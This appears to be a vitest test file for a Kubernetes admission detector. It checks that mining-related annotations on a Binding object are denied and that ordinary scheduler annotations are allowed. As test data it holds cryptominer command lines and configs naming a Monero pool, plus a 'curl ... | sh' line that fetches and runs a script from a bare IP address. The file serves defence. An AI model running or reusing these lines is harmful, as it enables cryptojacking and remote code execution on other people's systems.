import { beforeAll, expect, test } from 'vitest';
import type { Indicators } from '../../detection/indicators.ts';
import { judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { XMR } from '../corpus/wallets.ts';

let indicators: Indicators;
beforeAll(async () => {
  indicators = await loadIndicators();
});

const verdictOf = (annotations: Record<string, string>, labels: Record<string, string> = {}) =>
  judgeObject(
    {
      apiVersion: 'v1',
      kind: 'Binding',
      metadata: { name: 'web', annotations, labels },
      target: { kind: 'Node', name: 'n1' },
    },
    { indicators },
  ).verdict;

test('annotations that a binding brings are judged as whatever the pod may make of them', () => {
  for (const text of [
    `-o pool.example.net:3333 -u ${XMR} --donate-level 1`,
    'stratum+tcp://pool.example.net:3333',
    'pool.supportxmr.com:443',
    `/opt/agent -o pool.example.net:3333 -u ${XMR}`,
    'curl -s http://45.9.148.35/x.sh | sh',
    `{"pools":[{"url":"pool.example.net:443","user":"${XMR}","tls":true}],"donate-level":1}`,
  ]) {
    expect(verdictOf({ 'example.com/pool': text }), text).toBe('deny');
  }
  expect(verdictOf({}, { host: 'pool.supportxmr.com', run: 'xmrig' })).not.toBe('allow');
});

test('what schedulers note on a binding is left alone', () => {
  const gpus = '{"devices":[{"uuid":"GPU-8f6d8a1c","memory":8192,"cores":30}],"node":"n1"}';
  expect(
    verdictOf(
      {
        'hami.io/vgpu-devices-allocated': gpus,
        'scheduling.volcano.sh/numa': '0-7,16-23',
        'scheduler.example.com/decided-at': '2026-01-31T10:00:00Z',
        'pod.alpha.kubernetes.io/initialized': 'true',
      },
      { 'topology.kubernetes.io/zone': 'eu-west-1a' },
    ),
  ).toBe('allow');
});
